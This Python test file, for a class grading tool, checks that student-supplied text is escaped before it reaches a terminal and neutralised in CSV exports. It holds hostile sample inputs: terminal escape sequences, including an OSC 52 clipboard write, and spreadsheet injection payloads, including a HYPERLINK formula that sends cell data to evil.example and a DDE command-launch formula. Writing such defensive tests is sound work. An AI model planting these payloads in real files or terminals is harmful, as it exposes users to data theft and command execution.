"""Output is data, never commands (issue 12, items 10 and 11): what a student chose (file
and archive entry names, student ids and names, answers, messages quoting them) reaches a
TA's terminal with every control character escaped, and a spreadsheet as text, never as a
formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from grader.classmode.discover import Task
from grader.classmode.run import TaskOutcome, Progress, Rendered
from grader.classmode.export import ExportRow, render_csv
from grader.classmode.gradebook import OverrideRow
from grader.report.terminal import TerminalStream, for_terminal, render_summary
from grader.results import CheckResult, QuestionResult, Status, SubmissionResult
from grader.classmode.review import QueueItem, format_queue

# what must never reach a terminal raw: C0 but newline, DEL, C1, bidi controls, LS/PS, surrogates
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                         "\ud800-\udfff]")
HOSTILE = ["\x1b]0;pwned\x07", "\x1b]52;c;ZWNobyBvd25lZA==\x07", "\x1b[2J\x1b[H", "\x9b31m", "\r\x1b[2K",
           "\u202eexe.txt", "\x7f", "\udcff", "\x00"]

# any code point, surrogates included (undecodable file names arrive as lone surrogates)
any_text = st.text(st.characters(codec=None, categories=None), max_size=60) | st.sampled_from(HOSTILE)


def _clean(text: str) -> bool:
    return RAW_CONTROL.search(text) is None


def _result(sid: str, name: str, msg: str, warning: str, note: str, sub: str = "s") -> SubmissionResult:
    check = CheckResult(id="c", status=Status.FAIL, score=0.0, max_score=1.0, message=msg)
    q = QuestionResult(id="q1", title="t", score=0.0, max_score=1.0, status=Status.FAIL, checks=[check])
    return SubmissionResult(assignment="hw1", submission=sub, student={"id": sid, "name": name}, score=0.0,
                            max_score=1.0, questions=[q], warnings=[warning], notes=[note])


def test_for_terminal_escapes_the_classic_attacks_visibly() -> None:
    assert for_terminal("a\x1b]0;title\x07b") == "a\\x1b]0;title\\x07b"
    assert for_terminal("\x9b2J") == "\\x9b2J"
    assert for_terminal("x\u202ey") == "x\\u202ey"
    assert for_terminal("one\ntwo") == "one\ntwo" and for_terminal("one\ntwo", newlines=False) == "one\\x0atwo"
    assert for_terminal("naïve — ok ✓") == "naïve — ok ✓"  # printable text is left alone


@settings(max_examples=300, deadline=None)
@given(any_text, any_text, any_text, any_text, any_text, any_text)
def test_summary_never_emits_a_raw_control_char(sid, name, msg, warning, note, sub) -> None:
    out = render_summary(_result(sid, name, msg, warning, note, sub))
    assert _clean(out), ascii(out)
    out.encode("utf-8")  # no lone surrogate left to crash the print


@settings(max_examples=300, deadline=None)
@given(any_text, any_text, any_text)
def test_progress_lines_never_emit_a_raw_control_char(name, student, failure) -> None:
    stream = io.StringIO()
    p = Progress(3, stream=stream, tty=False, quiet=False)
    r = Rendered(student=student, score=1.0, max_score=2.0, json_text="{}", html_text=None, warnings=())
    p.add(TaskOutcome(task=Task(name=name, path=Path("x")), kind="graded", wall_s=0.1, rendered=r))
    p.add(TaskOutcome(task=Task(name=name, path=Path("x")), kind="failed", wall_s=0.1, failure=failure))
    p.add(TaskOutcome(task=Task(name=name, path=Path("x")), kind="graded", wall_s=0.1, rendered=r, failure=failure,
                  not_submitted=failure))
    text = stream.getvalue()
    assert _clean(text), ascii(text)
    assert text.count("\n") == 3  # one line per submission, whatever the names hold


def test_progress_redraw_keeps_its_own_control_sequence_through_the_terminal_stream() -> None:
    raw = io.StringIO()
    p = Progress(1, stream=TerminalStream(raw), tty=True, quiet=False)  # type: ignore[arg-type]
    p.add(TaskOutcome(task=Task(name="\x1b]0;x\x07", path=Path("x")), kind="failed", wall_s=0.1, failure="f"))
    p.close()
    assert raw.getvalue().startswith("\r\x1b[2Kgrading 1/1")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(any_text, any_text, any_text, any_text, any_text, any_text)
def test_review_listing_never_emits_a_raw_control_char(sub, student, check, text, key, comment) -> None:
    ov = OverrideRow(id=1, assignment="hw1", student=student, submission=sub, check_id=check, score=1.0,
                     comment=comment, by=comment, at="2026-01-01T00:00:00+00:00")
    items = [QueueItem(submission=sub, student=student, check_id=check, max_score=1.0, text=text, key=key, review=None),
             QueueItem(submission=sub, student=student, check_id=check, max_score=1.0, text=text, key=key, review=ov),
             QueueItem(submission=sub, student=student, check_id=check, max_score=1.0, text=text, key=key, review=None,
                       suspended=ov)]
    out = format_queue(items, results_dir=Path("results"), assignment="hw1")
    assert _clean(out), ascii(out)
    # one header, then three items of a blank line + 2 or 3 lines each; answers are shown whole (issue 19.7), but
    # every line the student's text adds is indented under its label: it can never pose as a header or an item
    assert len([line for line in out.splitlines() if not line.startswith("    ")]) <= 1 + 3 * 4


@settings(max_examples=300, deadline=None)
@given(st.lists(any_text, max_size=5))
def test_terminal_stream_never_passes_a_raw_control_char(chunks) -> None:
    raw = io.StringIO()
    stream = TerminalStream(raw)
    for c in chunks:
        stream.write(c)
    print(*chunks, file=stream)  # type: ignore[arg-type]
    assert _clean(raw.getvalue()), ascii(raw.getvalue())


def test_the_grade_command_escapes_what_it_prints(tmp_path: Path, capsys) -> None:
    """`grade` itself: an error naming a hostile path comes out escaped."""
    from grader.cli import main

    rc = main([str(tmp_path / "\x1b]52;c;b3duZWQ=\x07\x1b[2J")])
    err = capsys.readouterr().err
    assert rc == 2 and "\x1b" not in err and "\\x1b]52;c;b3duZWQ=\\x07" in err


# --------------------------------------------------------------------------- CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1"]


def _row(text: str, *, score: float = 1.5, qid: str = "q1") -> ExportRow:
    return ExportRow(student=text, name=text, submission=text, assignment="hw1", status="graded", score=score,
                     max_score=100.0, questions={qid: score}, reason=text, overrides=())


def test_formula_cells_are_quoted_and_numbers_stay_numbers() -> None:
    for f in FORMULAS:
        text = render_csv([_row(f, score=-1.5)], question_ids=["q1"])
        row = list(csv.DictReader(io.StringIO(text)))[0]
        for col in ("Student", "SIS User ID", "Submission", "Reason"):
            assert row[col] == "'" + f, (col, row[col])
        assert row["q1"] == "-1.5" and row["Total"] == "-1.5" and row["Max Points"] == "100"


@settings(max_examples=300, deadline=None)
@given(any_text.filter(lambda s: "\x00" not in s), st.sampled_from(["", "=", "+", "-", "@", "\t", "\r"]),
       st.floats(min_value=-1e6, max_value=1e6, allow_nan=False))
def test_no_text_cell_starts_a_formula(text, lead, score) -> None:
    text = (lead + text).encode("utf-8", "replace").decode("utf-8")
    out = render_csv([_row(text, score=score, qid="=q1")], question_ids=["=q1"])
    header, row = list(csv.reader(io.StringIO(out, newline="")))
    numeric = {3, header.index("Total"), header.index("Max Points")}
    assert header[3] == "'=q1"  # a question id is text like any other
    for i, cell in enumerate(row):
        if i in numeric:
            assert re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
        else:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (i, cell)
